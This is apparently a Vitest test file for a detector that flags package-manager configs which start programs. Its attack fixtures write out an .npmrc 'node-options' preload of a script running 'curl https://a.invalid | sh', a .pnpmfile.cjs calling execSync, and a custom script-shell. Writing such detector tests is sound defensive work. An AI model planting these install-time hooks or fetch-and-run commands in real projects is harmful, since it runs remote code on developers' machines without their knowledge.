import { expect, test } from 'vitest'
import { seenBy } from '../testing.ts'
import detector from './start-package-manager-config.ts'

type Files = Record<string, string>
const seen = seenBy(detector)

test.each<[string, Files, string[]]>([
  [
    'options of Node',
    {
      '.npmrc': 'node-options=--require ./x.js\n',
      'x.js': "require('child_process').exec('curl https://a.invalid | sh')",
    },
    ['decisive 12 x.js:1:26'],
  ],
  [
    'a pnpmfile that starts programs',
    { '.pnpmfile.cjs': "require('child_process').execSync('whoami')\nmodule.exports = {}" },
    ['strong 6 .pnpmfile.cjs:1:1'],
  ],
  ['a shell of its own', { '.npmrc': 'script-shell=./tools/sh.sh\n' }, ['strong 5 .npmrc:1:14']],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})

test.each<[string, Files, string[]]>([
  [
    'Yarn in the project',
    {
      '.yarnrc.yml': 'nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n',
      '.yarn/releases/yarn-4.1.0.cjs': "require('child_process').spawn('x')",
    },
    [],
  ],
  ['a pnpmfile', { '.pnpmfile.cjs': 'module.exports = { hooks: { readPackage: (pkg) => pkg } }' }, []],
  [
    'usual settings',
    { '.npmrc': 'engine-strict=true\nregistry=https://registry.npmjs.org/\nscript-shell=bash\n' },
    [],
  ],
])('innocent: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})
